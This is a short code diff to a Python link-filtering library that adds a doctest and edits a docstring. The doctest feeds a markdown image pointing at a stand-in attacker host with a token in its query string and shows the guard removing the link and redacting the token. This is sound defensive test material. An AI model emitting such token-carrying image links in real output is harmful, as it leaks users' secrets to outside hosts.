@@ -26,6 +26,13 @@ class Removed(NamedTuple):
         kind: the role of the destination, as in `Link`: `"link"`, `"autolink"`, `"image"`, or
             another one for raw HTML.
         destination: the destination, in which secrets are replaced as `redact` replaces them.
+
+    >>> from uriverse import Policy
+    >>> from uriverse.documents import Guard
+    >>> guard = Guard(Policy(allow=["docs.example"]))
+    >>> _ = guard.feed("![x](https://evil.example/?token=a)") + guard.close()
+    >>> guard.removed
+    [Removed(kind='image', destination='https://evil.example/?token=REDACTED')]
     """
 
     kind: LinkKind
@@ -37,7 +44,7 @@ class Rules:
 
     Attributes:
         html: whether harmless HTML is kept.
-        removed: the destinations that were removed, in their order, as keys.
+        removed: the destinations that were removed, as keys.
     """
 
     def __init__(
